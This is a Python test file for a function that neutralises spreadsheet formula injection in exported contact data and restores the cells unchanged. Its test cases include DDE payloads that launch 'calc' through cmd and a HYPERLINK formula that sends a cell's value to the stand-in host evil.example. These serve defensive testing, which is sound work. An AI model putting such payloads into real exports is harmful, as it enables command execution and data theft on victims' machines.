"""S16: no cell that leaves the house runs as a formula, and every one comes back as it was."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from postroom.core.contacts.rules.formulas import neutralise, restore

_TRICKY = st.text(
    alphabet=st.sampled_from(" '\"=+-@\t\r\n\uff1d\uff0b\uff0d\uff20\u200b\ufeff\u00a0a1.,()/"), max_size=12
)


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\rx",
        "\tx",
        "\n=1",
        "  =1+1",
        "\u00a0=1+1",
        "\ufeff=1+1",
        "\u200b=1+1",
        '"=1+1',
        "'=1+1",
        "'\"=1+1",
        "'\tx",
        "\uff1d1+1",
        "\uff0b1+1|",
        "\uff0d1+1|",
        "\uff20SUM(A1)",
        '=HYPERLINK("https://evil.example?x="&A1,"click")',
        "-",
        "--5",
        "+49 30 extension 7",
    ],
)
def test_a_formula_is_neutralised(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    assert restore(neutralise(cell)) == cell


@pytest.mark.parametrize(
    "cell",
    [
        "+49 30 901820",
        "+1 (555) 010-0199",
        "+49/30.90",
        "-5",
        "+5",
        "-5.25",
        "-5,25",
        "-.5",
        "-1e5",
        "7",
        "",
        "a-b",
        "O'Hara",
    ],
)
def test_numbers_phones_and_plain_words_stay_as_they_are(cell: str) -> None:
    assert neutralise(cell) == cell
    assert restore(cell) == cell


@pytest.mark.parametrize(("cell", "meant"), [("'+49 30 901820", "+49 30 901820"), ("'-5", "-5"), ("'tis", "'tis")])
def test_the_apostrophe_that_a_person_typed_before_a_number_comes_off(cell: str, meant: str) -> None:
    assert restore(cell) == meant


@settings(max_examples=2_000)
@given(st.text() | _TRICKY)
def test_every_cell_comes_back_as_it_was(cell: str) -> None:
    assert restore(neutralise(cell)) == cell


@settings(max_examples=2_000)
@given(_TRICKY)
def test_no_neutralised_cell_begins_a_formula(cell: str) -> None:
    out = neutralise(cell)
    bare = out.lstrip(' "\u200b\ufeff\u00a0\n')
    assert not bare.startswith(("=", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
    assert not out.startswith(("\t", "\r"))
